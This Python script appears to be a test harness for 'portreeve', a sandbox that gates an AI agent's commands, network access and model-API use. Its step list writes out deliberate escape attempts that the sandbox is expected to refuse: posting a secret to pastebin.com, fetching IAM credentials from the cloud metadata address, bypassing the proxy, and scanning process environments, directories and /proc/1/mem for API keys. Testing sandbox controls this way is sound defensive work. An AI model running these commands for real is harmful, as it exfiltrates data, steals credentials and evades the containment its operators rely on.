#!/usr/bin/env python3
"""An agent's day in its sandbox: each step goes in through `portreeve exec`, and is then looked up in the decision log.

Usage: day.py --bin DIR --data DIR --session ID --channel FILE --token-file FILE --key-file FILE --sandbox ADDRESS
              --gates ADDRESS --gate-pid PID [--json FILE]

Prints for a person what was tried, what was allowed or refused and why, and where that stands. With --json also writes it for
a program. Ends with 1 where a step did not end as it should.
"""
import argparse
import json
import os
import subprocess
import sys
import time

parser = argparse.ArgumentParser(usage=__doc__)
for name in ("bin", "data", "session", "channel", "token-file", "key-file", "sandbox", "gates", "gate-pid"):
    parser.add_argument(f"--{name}", required=True)
parser.add_argument("--json")
options = parser.parse_args()
COLOUR = sys.stdout.isatty() and not os.environ.get("NO_COLOR")
IN_GATES = ["nsenter", "--net", "--target", options.gate_pid, "--"]
MODEL = "claude-sonnet-4-5"


def read(path):
    with open(path, encoding="ascii") as file:
        return file.read().strip()


TOKEN, KEY = read(options.token_file), read(options.key_file)
CURL = "curl --silent --show-error --max-time 10"
PROXY = f"{CURL} --proxy http://{options.gates}:3128"
BROKER = f"http://{options.gates}:8182"
ASK_MODEL = json.dumps({"model": MODEL, "max_tokens": 64, "messages": [{"role": "user", "content": "What is a portreeve?"}]})

# What the shell runs comes to it by standard input, after the session's token: nothing of it is an argument that others read.
STEPS = [
    {"name": "an allowed program", "says": "starts a shell", "expect": "allowed", "actions": ["process.exec"],
     "script": "echo I am $(id -un), PID 1 is $(cat /proc/1/comm), and I see $(ls /proc | grep -c '^[0-9]') processes"},
    {"name": "a refused program", "says": "starts python3, which no rule allows", "expect": "refused", "actions": ["process.exec"],
     "command": ["/usr/bin/python3", "-c", "print('never seen')"]},
    {"name": "an allowed host", "says": "fetches from packages.example.org", "expect": "allowed",
     "actions": ["process.exec", "egress.resolve", "egress.connect"], "script": f"{PROXY} https://packages.example.org/simple/"},
    {"name": "a refused host", "says": "posts to pastebin.com", "expect": "refused", "actions": ["process.exec", "egress.resolve"],
     "script": f"{PROXY} --data secret=1 https://pastebin.com/"},
    {"name": "the metadata address", "says": "asks the cloud's metadata server for credentials", "expect": "refused",
     "actions": ["process.exec", "egress.resolve"], "script": f"{PROXY} https://169.254.169.254/latest/meta-data/iam/"},
    {"name": "around the proxy", "says": "tries the internet, the PDP's administration and another port directly", "expect": "refused",
     "actions": ["process.exec"], "layer": True,
     "script": f"curl -sS --max-time 1 https://23.0.0.10/; curl -sS --max-time 1 http://{options.gates}:8181/; "
               f"(exec 3<>/dev/udp/{options.gates}/53 && echo dig >&3); curl -sS --max-time 1 http://[fd00:200::1]:8181/"},
    {"name": "a model call", "says": f"calls {MODEL} with nothing but its session's token", "expect": "allowed",
     "actions": ["process.exec", "secret.use"],
     "script": f"{CURL} {BROKER}/anthropic/v1/messages --header \"x-api-key: $token\" "
               f"--header 'anthropic-version: 2023-06-01' --header 'content-type: application/json' --data '{ASK_MODEL}'"},
    {"name": "a refused model call", "says": "calls a preview model, which a rule denies", "expect": "refused",
     "actions": ["process.exec", "secret.use"],
     "script": f"{CURL} {BROKER}/anthropic/v1/messages --header \"x-api-key: $token\" "
               f"--header 'content-type: application/json' --data '{ASK_MODEL.replace(MODEL, 'claude-next-preview')}'"},
    {"name": "the real key", "says": "looks for the real key: environments, files, the supervisor's memory", "expect": "refused",
     "actions": ["process.exec"],
     "script": "cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null | tr '\\0' '\\n' | grep -a 'sk-[a]nt-' && exit; "
               "grep -rasl 'sk-[a]nt-' /etc /run /tmp /workspace /dev/shm 2>/dev/null && exit; "
               "head -c 1 /proc/1/mem; ls /proc/1/fd/; echo found nothing"},
]


def colour(code, text):
    return f"\033[{code}m{text}\033[0m" if COLOUR else text


def log(*filters):
    shown = subprocess.run([f"{options.bin}/portreeve", "decisions", "--data", options.data, "--json", "--limit", "10000", *filters],
                           capture_output=True, text=True, check=True).stdout
    return [json.loads(line) for line in shown.splitlines()]


def decisions_of_session():
    return log("--kind", "decision", "--session", options.session)


def dropped():
    """How much the packet filter dropped so far, by kind."""
    shown = subprocess.run([*IN_GATES, "nft", "--json", "list", "counters", "table", "inet", "portreeve"], capture_output=True, text=True)
    if shown.returncode != 0:
        return {}
    counters = [each["counter"] for each in json.loads(shown.stdout)["nftables"] if "counter" in each]
    return {each["name"]: each["packets"] for each in counters}


def execute(step):
    command = step.get("command") or ["/bin/bash", "-s"]
    script = f"token={TOKEN}\n{step['script']}\n" if "script" in step else ""
    return subprocess.run([*IN_GATES, f"{options.bin}/portreeve", "exec", "--channel", options.channel, "--interactive", options.sandbox, "--", *command],
                          input=script, capture_output=True, text=True, timeout=60)


def perform(step, known):
    before = dropped() if step.get("layer") else {}
    done = execute(step)
    records = [each for each in decisions_of_session() if each["id"] not in known]
    known.update(each["id"] for each in records)
    last = records[-1] if records else None
    refused = any(not each["decision"] for each in records)
    drops = {}
    if step.get("layer"):
        drops = {name: count - before.get(name, 0) for name, count in dropped().items() if count > before.get(name, 0)}
        refused = refused or done.returncode != 0
    if step["name"] == "the real key":
        refused = "found nothing" in done.stdout
    outcome = "refused" if refused else "allowed" if done.returncode == 0 else "failed"
    said = [line for line in (done.stdout + done.stderr).splitlines() if line.strip()]
    return {"name": step["name"], "says": step["says"], "expected": step["expect"], "outcome": outcome, "exit": done.returncode,
            "output": said, "decisions": records, "dropped": drops, "decided": last, "wanted": step["actions"],
            "got": [each["action"] for each in records]}


def why(decision):
    if decision is None:
        return ""
    text = decision["reason"]
    if decision.get("rules"):
        text += f" by {', '.join(decision['rules'])}"
    if decision.get("ruleReason"):
        text += f" ({decision['ruleReason']})"
    return text


def print_step(number, result):
    mark = {"allowed": colour(32, "allowed"), "refused": colour(31, "refused")}.get(result["outcome"], result["outcome"])
    print(f"\n  {colour(1, f'{number}. The agent ' + result['says'])}: {mark}")
    for line in result["output"][:4]:
        print(f"     {colour(2, line[:160])}")
    for each in result["decisions"]:
        answer = "allow" if each["decision"] else "deny"
        print(f"     {each['action']:<15} {each['resource']['id'][:44]:<44} {answer:<5} {why(each)}")
        print(f"     {'':<15} {colour(2, each['id'])}")
    if result["dropped"]:
        print("     the packet filter dropped " + ", ".join(f"{count} {name}" for name, count in sorted(result["dropped"].items())))


def await_outcomes(results):
    """Gates report what they did in their own time: until each decision that lets something happen has its outcome, or for 10 s."""
    wanted = {each["id"] for result in results for each in result["decisions"] if each["decision"] and each["action"] != "egress.resolve"}
    deadline = time.monotonic() + 10
    while True:
        outcomes = {}
        for each in log("--kind", "outcome"):  # not every gate's names its session
            if each.get("decisionId") in wanted:
                outcomes.setdefault(each["decisionId"], []).append(each)
        if wanted <= set(outcomes) or time.monotonic() > deadline:
            return outcomes
        time.sleep(0.1)


def main():
    known = {each["id"] for each in decisions_of_session()}
    results = []
    for number, step in enumerate(STEPS, 1):
        results.append(perform(step, known))
        print_step(number, results[-1])
        sys.stdout.flush()
    outcomes = await_outcomes(results)
    everything = "\n".join(line for result in results for line in result["output"])
    leaked = KEY in everything
    print(f"\n  The real key in anything that the agent saw: {'yes, and that is a defect' if leaked else 'nowhere'}.")
    if options.json:
        with open(options.json, "w", encoding="utf-8") as file:
            json.dump({"session": options.session, "steps": results, "outcomes": outcomes, "leaked": leaked}, file)
    wrong = [result["name"] for result in results if result["outcome"] != result["expected"]]
    for name in wrong:
        print(f"  {name}: this did not end as it should", file=sys.stderr)
    sys.exit(1 if wrong or leaked else 0)


main()
